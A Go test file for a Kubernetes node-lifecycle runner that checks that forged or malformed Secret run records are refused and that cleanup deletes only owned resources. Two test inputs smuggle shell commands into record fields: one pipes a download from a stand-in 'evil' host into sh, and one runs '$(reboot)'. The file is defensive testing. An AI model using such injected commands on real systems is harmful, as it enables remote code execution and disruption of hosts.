// SPDX-License-Identifier: Apache-2.0

package runner

import (
	"errors"
	"strings"
	"testing"

	authv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
	clienttesting "k8s.io/client-go/testing"

	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/plan"
	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/runner/wire"
)

// A host may write whatever it likes into its own record.
func TestARecordIsBelievedAboutItsOwnNodeOnly(t *testing.T) {
	for name, change := range map[string]func(*corev1.Secret){
		"it names a control plane":             func(s *corev1.Secret) { s.Data[wire.KeyNode] = []byte("cp1") },
		"it names a command":                   func(s *corev1.Secret) { s.Data[wire.KeyNode] = []byte("worker-1; curl evil|sh") },
		"it names none":                        func(s *corev1.Secret) { delete(s.Data, wire.KeyNode) },
		"it is in a phase that there is not":   func(s *corev1.Secret) { s.Data[wire.KeyPhase] = []byte("owned") },
		"its operation would be a command":     func(s *corev1.Secret) { s.Data[wire.KeyOperation] = []byte("remove $(reboot)") },
		"it is empty":                          func(s *corev1.Secret) { s.Data = nil },
		"another node whose name begins alike": func(s *corev1.Secret) { s.Data[wire.KeyNode] = []byte("worker-10") },
	} {
		t.Run(name, func(t *testing.T) {
			secret := held(wire.Remove, wire.Finished)
			change(secret)
			cluster := Cluster{Client: fake.NewClientset(secret)}
			rec, found, err := Get(t.Context(), cluster, "worker-1")
			if !found || plan.ClassOf(err) != plan.Refused || rec.State.Node != "" || rec.State.Phase != "" {
				t.Errorf("found %v, %+v, %v", found, rec, err)
			}
			if hint := plan.HintOf(err); !strings.HasSuffix(hint, "kubectl -n kube-system delete secret lifecycle-worker-1") ||
				strings.Contains(hint, "evil") {
				t.Errorf("hint %q", hint)
			}
			if _, err := Begin(t.Context(), cluster, Task{Node: node("amd64"), Owner: Owner{Operation: wire.Remove}},
				quiet); plan.ClassOf(err) != plan.Refused {
				t.Errorf("a run begins: %v", err)
			}
			if _, err := RunOnce(t.Context(), cluster, node("amd64"), Question{Operation: wire.Inspect}, quiet); plan.ClassOf(err) != plan.Refused {
				t.Errorf("a look begins: %v", err)
			}
		})
	}
}

// What goes on with a run deletes the Node in the end.
func TestARunWhoseRecordNamesNoNodeObjectIsNotTakenUp(t *testing.T) {
	there := node("amd64")
	there.UID = "now"
	for uid, ok := range map[string]bool{"now": true, "": false} {
		for _, phase := range []wire.Phase{wire.Preparing, wire.Working, wire.Finished} {
			secret := held(wire.Remove, phase)
			secret.Data[wire.KeyNodeUID] = []byte(uid)
			client := fake.NewClientset(secret)
			_, err := Begin(t.Context(), Cluster{Client: client}, Task{Node: there, Owner: Owner{Operation: wire.Remove}}, quiet)
			if refused := err != nil && strings.Contains(err.Error(), "not a run record to rely on"); refused == ok || refused &&
				plan.HintOf(err) == "" {
				t.Errorf("UID %q, %s: %v", uid, phase, err)
			}
			if _, err := client.CoreV1().Secrets(secret.Namespace).Get(t.Context(), secret.Name, metav1.GetOptions{}); err != nil && !ok {
				t.Errorf("the lock was taken away: %v", err)
			}
		}
	}
}

func TestAJunkRecordSpoilsNoOther(t *testing.T) {
	good := held(wire.Remove, wire.Working)
	junk := held(wire.Remove, "owned")
	junk.Name, junk.UID = "lifecycle-a", "2"
	foreign := held(wire.Remove, wire.Finished) // says that it is of worker-1
	foreign.Name, foreign.UID = "lifecycle-b", "3"
	forged := held(wire.Remove, wire.Working) // would pass for what a look left
	forged.Name, forged.UID = "lifecycle-worker-1-look", "4"
	records, err := List(t.Context(), Cluster{Client: fake.NewClientset(good, junk, foreign, forged)})
	if err != nil || len(records) != 4 {
		t.Fatalf("%+v, %v", records, err)
	}
	damaged := 0
	for _, r := range records {
		switch {
		case r.Damaged == nil && r.Name == good.Name && r.State.Node == "worker-1":
		case r.Damaged != nil && r.State.Node == "" && strings.HasSuffix(plan.HintOf(r.Damaged), "delete secret "+r.Name):
			damaged++
		default:
			t.Errorf("%+v", r)
		}
	}
	if damaged != 3 {
		t.Errorf("%d damaged ones", damaged)
	}
}

// meta is an object's of the record's name; owner is a record's UID.
func metaOf(rec Record, owner types.UID, ours bool) metav1.ObjectMeta {
	m := metav1.ObjectMeta{Name: rec.Name, Namespace: rec.Namespace, UID: "there"}
	if ours {
		m.Labels = map[string]string{Label: "remove"}
	}
	if owner != "" {
		m.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Secret", Name: rec.Name, UID: owner}}
	}
	return m
}

func TestTheEndOfARunDeletesWhatIsItsOwnOnly(t *testing.T) {
	rec := Record{Namespace: DefaultNamespace, Name: "lifecycle-worker-1", UID: "2"}
	for name, c := range map[string]struct {
		owner types.UID
		ours  bool
		gone  bool
	}{
		"its own goes":                              {"2", true, true},
		"somebody else's stays":                     {"", false, false},
		"somebody else's with our label stays":      {"", true, false},
		"an earlier record's is left to the server": {"1", true, false},
		"one that says it is ours, without a label": {"2", false, false},
	} {
		t.Run(name, func(t *testing.T) {
			meta := metaOf(rec, c.owner, c.ours)
			client := fake.NewClientset(&corev1.ServiceAccount{ObjectMeta: meta}, &rbacv1.Role{ObjectMeta: meta},
				&rbacv1.RoleBinding{ObjectMeta: meta},
				&corev1.Pod{ObjectMeta: meta}, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: rec.Name, Namespace: rec.Namespace, UID: rec.UID}})
			if err := End(t.Context(), client, rec); err != nil {
				t.Fatal(err)
			}
			deleted := map[string]bool{}
			for _, a := range client.Actions() {
				if d, is := a.(clienttesting.DeleteActionImpl); is {
					deleted[a.GetResource().Resource] = true
					if d.DeleteOptions.Preconditions == nil || d.DeleteOptions.Preconditions.UID == nil {
						t.Errorf("%s is deleted whatever its UID", a.GetResource().Resource)
					}
				}
			}
			for _, resource := range []string{"pods", "serviceaccounts", "roles", "rolebindings"} {
				if deleted[resource] != c.gone {
					t.Errorf("%s deleted: %v", resource, deleted[resource])
				}
			}
			if !deleted["secrets"] {
				t.Error("the record stays")
			}
		})
	}
}

func TestWhoMayNotReadARoleLeavesItToTheServer(t *testing.T) {
	rec := Record{Namespace: DefaultNamespace, Name: "lifecycle-worker-1", UID: "2"}
	client := fake.NewClientset(&rbacv1.Role{ObjectMeta: metaOf(rec, "2", true)})
	client.PrependReactor("get", "roles", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, apierrors.NewForbidden(rbacv1.Resource("roles"), rec.Name, errors.New("no"))
	})
	if err := End(t.Context(), client, rec); err != nil {
		t.Error(err)
	}
}

func TestAForeignAccountOrRoleIsRefusedAndNeverDeleted(t *testing.T) {
	rec := Record{Namespace: DefaultNamespace, Name: "lifecycle-worker-1", UID: "2", State: wire.State{Operation: wire.Remove}}
	foreign := metaOf(rec, "", true)
	foreign.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: "x", UID: "9"}}
	for name, there := range map[string]runtime.Object{
		"an account without a label":          &corev1.ServiceAccount{ObjectMeta: metaOf(rec, "", false)},
		"an account with our label":           &corev1.ServiceAccount{ObjectMeta: metaOf(rec, "", true)},
		"a role with our label":               &rbacv1.Role{ObjectMeta: metaOf(rec, "", true)},
		"a role of a Deployment with a label": &rbacv1.Role{ObjectMeta: foreign},
		"a binding with our label":            &rbacv1.RoleBinding{ObjectMeta: metaOf(rec, "", true)},
	} {
		t.Run(name, func(t *testing.T) {
			client := fake.NewClientset(there)
			client.PrependReactor("create", "serviceaccounts", func(a clienttesting.Action) (bool, runtime.Object, error) {
				return a.GetSubresource() == "token", &authv1.TokenRequest{}, nil
			})
			_, err := rec.identity(t.Context(), client, tokenOfRun)
			if plan.ClassOf(err) != plan.Refused || !strings.Contains(plan.HintOf(err), "kubectl -n kube-system delete ") {
				t.Errorf("%v, hint %q", err, plan.HintOf(err))
			}
			if err := End(t.Context(), client, rec); err != nil {
				t.Error(err)
			}
			for _, a := range client.Actions() {
				if d, is := a.(clienttesting.DeleteActionImpl); is && d.DeleteOptions.Preconditions != nil &&
					*d.DeleteOptions.Preconditions.UID == "there" {
					t.Errorf("it was deleted: %v", a)
				}
			}
		})
	}
}
